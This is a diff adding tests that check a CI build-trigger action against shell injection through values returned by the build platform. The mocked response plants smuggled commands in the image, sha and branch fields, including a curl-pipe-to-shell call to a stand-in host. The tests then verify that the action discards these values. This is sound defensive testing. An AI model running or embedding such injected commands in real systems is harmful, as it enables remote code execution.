@@ -189,3 +189,62 @@ describe("trigger-build: waiting with the service's history", () => {
     expect(Math.min(...polls)).toBeGreaterThanOrEqual(300);
   });
 });
+
+describe("trigger-build: the platform's text in outputs", () => {
+  const platform = useTestPlatform();
+
+  it("sets no image, sha or branch output that is not one, and warns naming each", async () => {
+    await platform.reset();
+    // Every read of the build answers a concluded build whose texts would run as shell in a
+    // `run:` that expands the outputs.
+    await platform.control("POST", "faults", {
+      method: "GET",
+      path: `${BUILD}/*`,
+      status: 200,
+      body: {
+        data: {
+          id: "joyous-view-6290",
+          status: "SUCCESS",
+          concluded: true,
+          registry: { uri: "registry.example/web:1$(touch /tmp/cwp-pwned)" },
+          sha: "abc`id`",
+          branch: "main; curl evil.example | sh",
+        },
+      },
+      times: 1000,
+    });
+    const result = await runBundle(actionDir, {
+      inputs: { ...platform.connection(), "project-id": "platform-web", "service-id": "web", branch: "main" },
+    });
+    expect(result.code, result.stdout).toBe(0);
+    expect(result.outputs).toMatchObject({ image: "", sha: "", branch: "", status: "SUCCESS" });
+    expect(result.outputs["build-id"]).toMatch(/^[a-z]+-[a-z]+-\d+$/);
+    for (const [name, kind] of [
+      ["image", "an image reference"],
+      ["sha", "a commit sha"],
+      ["branch", "a branch name"],
+    ])
+      expect(result.stdout).toContain(`::warning::The platform's value for output ${name} is not ${kind}`);
+    expect(result.stdout).not.toContain("cwp-pwned");
+  });
+
+  it("sets a registry reference with a port, a tag and a digest as it is", async () => {
+    await platform.reset();
+    const image = `registry.example:5000/team/web:1.2.3@sha256:${"a".repeat(64)}`;
+    await platform.control("POST", "faults", {
+      method: "GET",
+      path: `${BUILD}/*`,
+      status: 200,
+      body: {
+        data: { id: "joyous-view-6290", status: "SUCCESS", concluded: true, registry: { uri: image } },
+      },
+      times: 1000,
+    });
+    const result = await runBundle(actionDir, {
+      inputs: { ...platform.connection(), "project-id": "platform-web", "service-id": "web", branch: "main" },
+    });
+    expect(result.code, result.stdout).toBe(0);
+    expect(result.outputs.image).toBe(image);
+    expect(result.stdout).not.toContain("::warning::");
+  });
+});
